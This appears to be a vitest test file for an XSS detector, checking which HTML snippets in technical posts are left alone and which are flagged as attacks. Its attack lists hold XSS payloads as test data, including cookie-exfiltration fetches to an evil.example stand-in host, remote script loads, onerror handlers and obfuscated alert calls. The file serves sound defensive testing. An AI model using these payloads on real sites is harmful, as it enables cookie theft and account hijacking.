// Texts long enough to be about markup: what only calls something is left alone, what an attack reaches for is not.
import { describe, expect, it } from 'vitest';
import {
  MARKUP_PROSE_BYTES_MAX,
  MARKUP_SHORT_BYTES_MAX,
  SCRIPT_REREAD_FACTOR,
} from '../../../../src/core/limits.ts';
import { detectXss } from '../../../../src/detect/html/detect-xss.ts';
import { reaches } from '../../../../src/detect/script/reach.ts';

const PROSE = 'Components hold state, and a button that counts is the first of them everybody writes. ';
const post = (markup: string): string =>
  `${PROSE.repeat(Math.ceil(MARKUP_SHORT_BYTES_MAX / PROSE.length))}\n\n\`\`\`html\n${markup}\n\`\`\`\n`;

const ABOUT_MARKUP = [
  '<script>\n  let count = 0;\n  function add() { count += 1; render(count); }\n</script>',
  "<script setup>\nimport { ref } from 'vue'\nconst shown = ref(false)\n</script>",
  '<script src="app.js" defer></script>',
  '<script type="text/x-template"><p>{{ a }}</p></script>',
  '<script type="application/ld+json">{"@type": "Thing", "name": "alert(1)"}</script>',
  'Use `<script>` tags, or `<script setup>` where it fits. Then alert somebody.',
  '<button onclick="add()">more</button>',
  '<button onClick={() => setCount(count + 1)}>more</button>',
  '<iframe src="https://maps.example/embed?x=1" width="600"></iframe>',
  '<form action="https://pay.example/checkout" method="post"><input name="a"></form>',
  '<meta http-equiv="content-security-policy" content="default-src \'self\'">',
  '<base href="/shop/">',
  '</script> ends a script.',
];

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script>alert(1)/*',
  '<script>let a = 1;</script><script>eval(name)</script>',
  '<script>fetch("//evil.example/?" + document.cookie)</script>',
  '<script>new Image().src = `https://evil.example/${secret}`</script>',
  '<script src="//evil.example/x.js"></script>',
  '<script src=https:\\evil.example></script>',
  '<script src="/search?callback=alert"></script>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
  '<script>location = "https://evil.example/"</script>',
  '<script>$.getScript("/x")</script>',
  '<script>var s = document.createElement("script"); load(s)</script>',
  '<script>window["\\x61\\x6c\\x65rt"](1)</script>',
  '<script>a = 1 b = 2; document.cookie</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '" onmouseover="alert(1)',
];

describe(`beyond ${MARKUP_SHORT_BYTES_MAX} bytes`, () => {
  it.each(ABOUT_MARKUP)('leaves alone %j', (markup) => expect(detectXss(post(markup))).toBe(false));
  it.each(ATTACKS)('detects %j', (markup) => expect(detectXss(post(markup))).toBe(true));

  it('begins exactly there', () => {
    const markup = '<button onclick="add()">more</button>';
    const padded = (bytes: number): string => markup.padStart(bytes, 'a(b) ');
    expect(detectXss(padded(MARKUP_SHORT_BYTES_MAX))).toBe(true);
    expect(detectXss(padded(MARKUP_SHORT_BYTES_MAX + 1))).toBe(false);
  });

  it(`begins at ${MARKUP_PROSE_BYTES_MAX} behind prose or a heading`, () => {
    const padded = (bytes: number, before: string): string =>
      before + '<script>add()</script>'.padStart(bytes - before.length);
    for (const before of ['This is how it is done:', '## How it is done\n']) {
      expect(detectXss(padded(MARKUP_PROSE_BYTES_MAX, before))).toBe(true);
      expect(detectXss(padded(MARKUP_PROSE_BYTES_MAX + 1, before))).toBe(false);
    }
    expect(detectXss(padded(MARKUP_PROSE_BYTES_MAX + 1, 'This is how'))).toBe(true);
    expect(detectXss(padded(MARKUP_PROSE_BYTES_MAX + 1, 'alert(1) is how it is done'))).toBe(true);
  });

  it(`reads scripts in scripts until that took ${SCRIPT_REREAD_FACTOR} times the text, then takes them for an attack`, () => {
    const nested = (count: number): string =>
      `<script>f(1);//${'<script>f(1);//'.repeat(count)}${'x'.repeat(2_000)}`;
    expect(detectXss(nested(1))).toBe(false);
    expect(detectXss(nested(100 * SCRIPT_REREAD_FACTOR))).toBe(true);
  });
});

describe('short values', () => {
  it.each([
    "<script setup>\nimport Page from './page.vue'\n</script>",
    "<script>import { a } from 'b'</script>\n<Page />",
    'What does `<script>` do?',
    '<Input onChange={(event) => set(event)} />',
    '<Button onClick={save}>Save</Button>',
  ])('leaves alone what breaks the syntax as a script: %j', (value) => expect(detectXss(value)).toBe(false));

  it.each([
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script>/*\nimport a from 'b'\n*/alert(1)</script>",
    "<script>import('//evil.example/x.js')</script>",
    '<script>`${alert(1)}`',
    '<img src=x onerror={alert(1)}>',
    '<script>f()</script>',
  ])('detects %j', (value) => expect(detectXss(value)).toBe(true));
});

describe('reaches', () => {
  it.each([
    'x = document.cookie',
    'document["cookie"]',
    'importScripts(a)',
    "from 'https://cdn.example/a.js'",
    "el.src = '//evil.example'",
    "location.replace('https://evil.example')",
    "fetch('https://evil.example/?a=' + b)",
    "setTimeout(atob('YQ=='))",
    'alert.call(null, 1)',
    '\\u0061\\u006c',
  ])('%j', (script) => expect(reaches(script)).toBe(true));

  it.each([
    'cookie jar',
    "from './a.js'",
    "fetch('/api/items')",
    "img.src = 'a.png'",
    'setTimeout(tick, 100)',
  ])('not %j', (script) => expect(reaches(script)).toBe(false));
});

describe('parameters between percent signs', () => {
  it('are no call behind a string', () => expect(detectXss("secret: '%env(APP_SECRET)%'")).toBe(false));
  it('hide none', () => expect(detectXss("x'%alert(1)%'")).toBe(true));
});
